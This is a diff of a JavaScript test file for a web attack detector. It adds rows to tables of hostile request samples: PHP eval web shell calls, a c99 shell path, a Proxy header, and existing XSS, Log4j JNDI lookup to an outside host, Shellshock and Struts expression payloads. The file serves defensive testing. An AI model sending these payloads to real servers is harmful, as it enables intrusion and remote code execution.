@@ -27,6 +27,8 @@ describe('a request that attacks', () => {
     ['a script', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E'],
     ['code for PHP', '/index.php?-d+allow_url_include=1+-d+auto_prepend_file=php://input'],
     ['code for PHP', '/shell.php?z0=@eval(base64_decode($_POST[1]))'],
+    ['code for PHP', '/shell.php?1=@eval(@str_rot13($_POST[2]))'],
+    ['a web shell by its name', '/images/c99.php?d=/'],
     ['a command for a web shell', '/uploads/x.php?cmd=cat%20/etc/hostname'],
     ['an expression for a Java framework', '/show.action?redirect:%25%7B%28%23a%3D1%29%7D'],
   ])('says %s: %s', (what, target) => {
@@ -38,6 +40,7 @@ describe('a request that attacks', () => {
     ['a lookup for Log4j', 'User-Agent: ${${lower:j}ndi:rmi://10.0.0.9/a}'],
     ['a function for a shell', 'Cookie: () { :; }; /bin/id'],
     ['an expression for a Java framework', "Content-Type: %{(#_='multipart/form-data')}"],
+    ['a proxy for programs', 'Proxy: 203.0.113.9:8080'],
     ['encodings without end', `Accept-Encoding: ${'AAAA, '.repeat(80)}`],
     ['a range that overflows', 'Range: bytes=0-18446744073709551615'],
     ['calls itself nikto', 'User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)'],
